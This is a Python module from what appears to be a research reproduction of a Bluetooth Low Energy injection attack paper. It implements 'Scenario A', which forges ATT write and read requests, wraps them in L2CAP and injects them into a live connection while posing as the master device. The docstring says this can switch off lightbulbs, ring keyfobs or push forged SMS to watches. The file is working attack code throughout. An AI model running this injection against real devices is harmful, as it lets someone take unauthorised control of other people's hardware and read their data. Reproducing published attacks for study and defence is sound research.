"""Scenario A: illegitimately using a device functionality (paper §VI-A).

The straightforward application of the injection primitive: forge an ATT
request (Write Request, Write Command or Read Request), wrap it in L2CAP,
and inject it as if the Master had sent it.  The Slave's ATT server
processes it exactly like legitimate traffic — turning the lightbulb off,
ringing the keyfob, pushing a forged SMS to the watch — and its response
(e.g. the Read Response with the attribute value) arrives in the very
Slave frame the success heuristic inspects.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.injection import InjectionReport
from repro.errors import AttackError
from repro.host.att.pdus import ReadReq, WriteCmd, WriteReq
from repro.host.l2cap import CID_ATT, l2cap_decode, l2cap_encode
from repro.ll.pdu.data import LLID


@dataclass
class ScenarioAResult:
    """Outcome of one injected ATT request.

    Attributes:
        report: the raw injection report.
        response_att: ATT bytes of the Slave's in-band answer, when the
            successful attempt's response frame carried one.
    """

    report: InjectionReport
    response_att: Optional[bytes] = None

    @property
    def success(self) -> bool:
        """Whether the request was injected successfully."""
        return self.report.success


class IllegitimateUseScenario:
    """Injects ATT requests into a live connection.

    Args:
        attacker: a synchronised :class:`~repro.core.attacker.Attacker`.
    """

    def __init__(self, attacker: Attacker):
        self.attacker = attacker

    # ------------------------------------------------------------------
    # Request builders
    # ------------------------------------------------------------------

    @staticmethod
    def write_request_payload(handle: int, value: bytes) -> bytes:
        """LL payload for an injected ATT Write Request."""
        return l2cap_encode(CID_ATT, WriteReq(handle, value).to_bytes())

    @staticmethod
    def write_command_payload(handle: int, value: bytes) -> bytes:
        """LL payload for an injected ATT Write Command."""
        return l2cap_encode(CID_ATT, WriteCmd(handle, value).to_bytes())

    @staticmethod
    def read_request_payload(handle: int) -> bytes:
        """LL payload for an injected ATT Read Request."""
        return l2cap_encode(CID_ATT, ReadReq(handle).to_bytes())

    # ------------------------------------------------------------------
    # Execution
    # ------------------------------------------------------------------

    def inject_write(self, handle: int, value: bytes,
                     on_done: Optional[Callable[[ScenarioAResult], None]] = None,
                     with_response: bool = True) -> None:
        """Inject a write (request or command) to ``handle``."""
        payload = (self.write_request_payload(handle, value) if with_response
                   else self.write_command_payload(handle, value))
        self._run(payload, on_done)

    def inject_read(self, handle: int,
                    on_done: Optional[Callable[[ScenarioAResult], None]] = None
                    ) -> None:
        """Inject a Read Request; the result carries the Read Response."""
        self._run(self.read_request_payload(handle), on_done)

    def _run(self, payload: bytes,
             on_done: Optional[Callable[[ScenarioAResult], None]]) -> None:
        if self.attacker.connection is None:
            raise AttackError("attacker is not synchronised")

        def _finished(report: InjectionReport) -> None:
            result = ScenarioAResult(report=report,
                                     response_att=self._extract_response(report))
            if on_done is not None:
                on_done(result)

        self.attacker.inject(payload, LLID.DATA_START, _finished)

    @staticmethod
    def _extract_response(report: InjectionReport) -> Optional[bytes]:
        """Pull the ATT answer out of the successful attempt's response.

        The Slave's answer to an injected request is usually queued for the
        *next* connection event, but fast stacks answer in the same frame;
        we surface it when present (the caller can also keep sniffing to
        capture later responses).
        """
        if not report.records:
            return None
        last = report.records[-1]
        payload = getattr(last, "response_payload", None)
        if not payload:
            return None
        try:
            cid, att = l2cap_decode(payload)
        except Exception:
            return None
        return att if cid == CID_ATT else None
